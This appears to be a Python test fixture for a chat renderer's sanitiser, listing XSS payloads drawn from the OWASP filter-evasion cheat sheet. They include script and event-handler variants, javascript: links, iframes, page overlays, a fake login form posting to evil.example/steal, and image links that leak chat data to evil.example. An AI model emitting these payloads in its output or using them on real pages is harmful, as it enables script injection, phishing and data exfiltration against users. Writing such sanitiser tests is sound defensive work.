"""Model output that tries to act in the reader's page: script in its many spellings
(after the OWASP XSS filter-evasion cheat sheet), style overlays, fake forms, frames
and embeds, SVG in Markdown, javascript:/data: links. Each payload that runs sets
window.__xss or opens a dialog; each one that shows sets no style and posts nothing."""

from __future__ import annotations

MARK = "window.__xss=1"
PAYLOADS = [
    # script, plainly and not
    f"<script>{MARK}</script>",
    f"<SCRIPT SRC=data:text/javascript,{MARK}></SCRIPT>",
    f"<scr<script>ipt>{MARK}</scr</script>ipt>",
    f"<script\n>{MARK}</script\n>",
    f'"><script>{MARK}</script>',
    f"<<SCRIPT>{MARK};//<</SCRIPT>",
    # event handlers
    f'<img src=x onerror="{MARK}">',
    f"<IMG SRC=/ onerror={MARK}></img>",
    f'<img src="x" ONERROR="{MARK}" style="display:block">',
    f'<svg onload="{MARK}">',
    f'<body onload="{MARK}">',
    f'<details open ontoggle="{MARK}">x</details>',
    f'<div onmouseover="{MARK}" style="position:fixed;inset:0">hover</div>',
    f'<a onclick="{MARK}" href="#">click</a>',
    f'<video><source onerror="{MARK}"></video>',
    f'<audio src=x onerror="{MARK}">',
    f'<input autofocus onfocus="{MARK}">',
    f'<marquee onstart="{MARK}">m</marquee>',
    # URLs that run
    f"[click me](javascript:{MARK})",
    f"[click me](JaVaScRiPt:{MARK})",
    f"[click me](java&#x09;script:{MARK})",
    f'<a href="javascript:{MARK}">link</a>',
    f'<a href="&#106;avascript:{MARK}">link</a>',
    f'<a href="  javascript:{MARK}">link</a>',
    "[data link](data:text/html;base64,PHNjcmlwdD53aW5kb3cuX194c3M9MTwvc2NyaXB0Pg==)",
    f'<a href="data:text/html,<script>{MARK}</script>">data</a>',
    '<a href="vbscript:msgbox(1)">vb</a>',
    f'<iframe src="javascript:{MARK}"></iframe>',
    f"![img](javascript:{MARK})",
    "![pixel](https://evil.example/leak.png?chat=secret)",
    '<img src="https://evil.example/leak.png">',
    "<img srcset='https://evil.example/a.png 1x'>",
    # embedding elements
    '<iframe src="https://evil.example/"></iframe>',
    '<iframe srcdoc="<script>parent.__xss=1</script>"></iframe>',
    '<object data="https://evil.example/x.swf"></object>',
    '<embed src="https://evil.example/x.swf">',
    '<frameset><frame src="https://evil.example/"></frameset>',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    '<base href="https://evil.example/">',
    # style: overlays, restyling the page
    '<div style="position:fixed;top:0;left:0;width:100vw;height:100vh;z-index:99999;background:red">'
    "Session expired, log in again</div>",
    "<style>body{display:none} #chat{position:fixed;inset:0}</style>",
    '<span style="position:absolute;left:0;top:0;font-size:400px">BIG</span>',
    "<div style=\"background:url('https://evil.example/x')\">bg</div>",
    '<p style="behavior:url(x.htc);-moz-binding:url(x.xml#xss)">old</p>',
    # forms: a fake login posting elsewhere
    '<form action="https://evil.example/steal" method="post"><p>Your session expired.</p>'
    '<input name="user" placeholder="user"><input type="password" name="pw">'
    '<button type="submit">Log in</button></form>',
    '<button formaction="https://evil.example/">Continue</button>',
    '<select name="s"><option>a</option></select><textarea>note</textarea>',
    '<isindex action="https://evil.example/" type=image>',
    # SVG in Markdown, inline and as an image
    f'<svg><script>{MARK}</script><circle r="40"/></svg>',
    f'<svg><a xlink:href="javascript:{MARK}"><text y="20">svg link</text></a></svg>',
    f"<math><mtext><table><mglyph><style><img src=x onerror={MARK}>",
    "![svg](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+PC9zdmc+)",
    # mutation and namespace tricks
    f'<noscript><p title="</noscript><img src=x onerror={MARK}>">',
    f"<template><script>{MARK}</script></template>",
    f"<!--<img src=x onerror={MARK}>-->",
    f'<xmp><img src=x onerror="{MARK}"></xmp>',
    f'<div id="x" tabindex=1 onfocusin="{MARK}" autofocus>focus</div>',
    # inside code, the markup must stay visible text
    f"```html\n<script>{MARK}</script>\n<form action=x><input></form>\n```",
    f"`<img src=x onerror={MARK}>`",
]
